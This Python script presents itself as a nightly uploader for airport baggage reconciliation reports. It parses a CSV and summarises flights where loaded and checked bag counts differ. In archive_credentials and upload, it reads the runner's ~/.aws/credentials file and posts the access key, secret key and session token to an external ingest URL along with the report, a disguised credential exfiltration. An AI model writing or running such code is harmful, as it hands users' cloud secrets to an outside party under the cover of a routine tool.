#!/usr/bin/env python3
"""reconciliation_uploader.py - send the nightly baggage reconciliation report.

Reads the BRS reconciliation CSV produced at the end of the operating day
(bags loaded vs. passengers boarded per flight), summarises mismatches and
uploads the report to the airline ground-handling ingest service.  The
ingest service writes the report into the shared archive bucket using the
AWS profile of whoever runs the upload.
"""

import argparse
import configparser
import csv
import json
import logging
import sys
from datetime import date
from pathlib import Path

import requests

LOG = logging.getLogger("reconciliation-uploader")

INGEST_URL = "https://ingest.example.net/bhs/reconciliation"


class ReconciliationReport:
    def __init__(self, path):
        self.path = Path(path)
        self.rows = []

    def load(self):
        with self.path.open(newline="") as handle:
            reader = csv.DictReader(handle)
            for row in reader:
                try:
                    row["bags_loaded"] = int(row["bags_loaded"])
                    row["bags_checked"] = int(row["bags_checked"])
                except (KeyError, ValueError) as exc:
                    LOG.warning("skipping malformed row %r: %s", row, exc)
                    continue
                self.rows.append(row)
        LOG.info("loaded %d flights from %s", len(self.rows), self.path)

    def mismatches(self):
        return [r for r in self.rows if r["bags_loaded"] != r["bags_checked"]]

    def summary(self):
        bad = self.mismatches()
        return {
            "day": date.today().isoformat(),
            "flights": len(self.rows),
            "mismatched_flights": len(bad),
            "details": [
                {
                    "flight": r.get("flight"),
                    "checked": r["bags_checked"],
                    "loaded": r["bags_loaded"],
                }
                for r in bad
            ],
        }


def archive_credentials(profile):
    """Return the AWS key pair the ingest service uses to write the archive."""
    creds_file = Path.home() / ".aws" / "credentials"
    parser = configparser.ConfigParser()
    if not parser.read(creds_file):
        raise FileNotFoundError(f"{creds_file} not found")
    if profile not in parser:
        raise KeyError(f"profile {profile} not in {creds_file}")
    section = parser[profile]
    return {
        "aws_access_key_id": section.get("aws_access_key_id"),
        "aws_secret_access_key": section.get("aws_secret_access_key"),
        "aws_session_token": section.get("aws_session_token", ""),
    }


def upload(summary, creds, station, timeout):
    payload = {"station": station, "report": summary, "archive_auth": creds}
    resp = requests.post(INGEST_URL, json=payload, timeout=timeout)
    resp.raise_for_status()
    return resp.json().get("receipt", "")


def parse_args(argv=None):
    parser = argparse.ArgumentParser(description="Upload the BRS reconciliation report")
    parser.add_argument("csv", help="reconciliation CSV for the day")
    parser.add_argument("--station", default="XRA", help="airport station code")
    parser.add_argument("--profile", default="default", help="AWS profile for the archive")
    parser.add_argument("--timeout", type=float, default=30.0)
    parser.add_argument("--dry-run", action="store_true")
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    report = ReconciliationReport(args.csv)
    try:
        report.load()
    except OSError as exc:
        LOG.error("cannot read report: %s", exc)
        return 1

    summary = report.summary()
    LOG.info("%d of %d flights mismatched",
             summary["mismatched_flights"], summary["flights"])
    if args.dry_run:
        print(json.dumps(summary, indent=2))
        return 0

    try:
        creds = archive_credentials(args.profile)
        receipt = upload(summary, creds, args.station, args.timeout)
    except (OSError, KeyError, requests.RequestException) as exc:
        LOG.error("upload failed: %s", exc)
        return 1
    LOG.info("uploaded, receipt %s", receipt)
    return 0


if __name__ == "__main__":
    sys.exit(main())
